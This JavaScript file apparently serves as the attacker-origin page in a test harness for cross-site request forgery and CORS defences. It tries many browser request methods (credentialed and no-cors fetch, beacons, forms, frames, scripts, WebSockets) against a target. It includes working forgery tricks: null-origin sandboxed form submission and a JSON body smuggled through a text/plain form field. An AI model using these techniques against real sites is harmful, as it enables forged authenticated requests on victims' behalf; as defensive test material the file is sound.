// What a page does that means ill: every way a browser has of sending a request, and of looking at
// the answer. Served by an attacker's origin, so it is JavaScript as it stands.

/**
 * Makes every attempt with a request, one after the other.
 *
 * @param {{ url: string, method: string, headers: Record<string, string>, body: string }} request
 * @param {boolean} isNamed whether the attempt is named in the query, for a server that counts them
 * @returns {Promise<Record<string, string>>} what each attempt could read, by its name
 */
globalThis.attack = async (request, isNamed) => {
  const read = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    const url = isNamed ? `${request.url}?by=${encodeURIComponent(name)}` : request.url
    read[name] = await Promise.race([attempt({ ...request, url }), after(1_000)]).catch(() => '')
  }
  return read
}

const after = (ms) => new Promise((resolve) => setTimeout(() => resolve(''), ms))
const told = async (answer) => `${answer.status || ''}${await answer.text()}`
const simple = { 'content-type': 'text/plain' }

const attempts = {
  'fetch with its headers': async ({ url, method, headers, body }) =>
    told(await fetch(url, { method, headers, body: method === 'GET' ? undefined : body })),
  'fetch with cookies': async ({ url }) => told(await fetch(url, { credentials: 'include' })),
  'fetch of text': async ({ url, body }) =>
    told(await fetch(url, { method: 'POST', headers: simple, body })),
  'fetch without CORS': async ({ url }) => told(await fetch(url, { mode: 'no-cors' })),
  'fetch of text without CORS': async ({ url, body }) =>
    told(await fetch(url, { method: 'POST', mode: 'no-cors', headers: simple, body })),
  'fetch of a form without CORS': async ({ url, body }) =>
    told(await fetch(url, { method: 'POST', mode: 'no-cors', body: new URLSearchParams(body) })),
  'fetch that outlives the page': async ({ url, body }) =>
    told(await fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body })),
  'fetch without a referrer': async ({ url, body }) =>
    told(await fetch(url, { method: 'POST', referrerPolicy: 'no-referrer', body })),
  XMLHttpRequest: ({ url, body }) =>
    new Promise((resolve) => {
      const asked = new XMLHttpRequest()
      asked.onloadend = () => resolve(asked.responseText)
      asked.open('POST', url)
      asked.send(body)
    }),
  beacon: async ({ url, body }) => {
    navigator.sendBeacon(url, body)
    return after(50)
  },
  'form of text': (request) => submit(request, 'POST', 'text/plain'),
  'form of pairs': (request) => submit(request, 'POST', 'application/x-www-form-urlencoded'),
  'form of parts': (request) => submit(request, 'POST', 'multipart/form-data'),
  'form in a sandbox': (request) => submit(request, 'POST', 'text/plain', 'allow-forms'),
  frame: ({ url }) => load('iframe', { src: url }),
  image: ({ url }) => load('img', { src: url }),
  script: ({ url }) => load('script', { src: url }),
  'script with CORS': ({ url }) => load('script', { src: url, crossOrigin: 'anonymous' }),
  stylesheet: ({ url }) => load('link', { rel: 'stylesheet', href: url }),
  object: ({ url }) => load('object', { data: url }),
  EventSource: ({ url }) =>
    new Promise((resolve) => {
      const source = new EventSource(url)
      source.onopen = () => close(source, resolve, 'opened')
      source.onmessage = ({ data }) => close(source, resolve, data)
      source.onerror = () => close(source, resolve, '')
    }),
  WebSocket: ({ url }) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url.replace(/^http/, 'ws'))
      socket.onopen = () => close(socket, resolve, 'opened')
      socket.onerror = () => close(socket, resolve, '')
    }),
}

function close(source, resolve, read) {
  source.close()
  resolve(read)
}

/** Loads it in an element, and looks into it where the browser lets a page look. */
function load(tag, members) {
  return new Promise((resolve) => {
    const element = Object.assign(document.createElement(tag), members)
    element.onload = () => finish(element, resolve)
    element.onerror = () => finish(element, resolve)
    document.body.append(element)
  })
}

function finish(element, resolve) {
  const read = textIn(element)
  element.remove()
  resolve(read)
}

function textIn(element) {
  try {
    return element.contentDocument?.body?.textContent ?? ''
  } catch {
    return ''
  }
}

/** Sends the body as a form does, into a frame of its own. */
function submit({ url, body }, method, enctype, sandbox) {
  const name = `frame-${Math.random()}`
  const frame = Object.assign(document.createElement('iframe'), { name })
  const form = Object.assign(document.createElement('form'), { action: url, method, enctype })
  const target = document.createElement('iframe')
  if (sandbox !== undefined) return submitIn(target, form, body, sandbox)
  form.target = name
  form.append(...fieldsOf(body))
  document.body.append(frame, form)
  return new Promise((resolve) => {
    frame.onload = () => resolve(textIn(frame))
    form.submit()
  })
}

/** From a frame without an origin, whose requests say `null`. */
function submitIn(frame, form, body, sandbox) {
  form.append(...fieldsOf(body))
  frame.sandbox = `${sandbox} allow-scripts`
  frame.srcdoc = `${form.outerHTML}<script>document.forms[0].submit()</script>`
  document.body.append(frame)
  return after(200)
}

/** A JSON body goes through a form of text as a name that ends before its last member. */
function fieldsOf(body) {
  const pairs = body.startsWith('{')
    ? [[`${body.slice(0, -1)},"x":"`, '"}']]
    : [...new URLSearchParams(body)]
  return pairs.map(([name, value]) => {
    const field = document.createElement('input')
    field.setAttribute('name', name)
    field.setAttribute('value', value)
    field.type = 'hidden'
    return field
  })
}
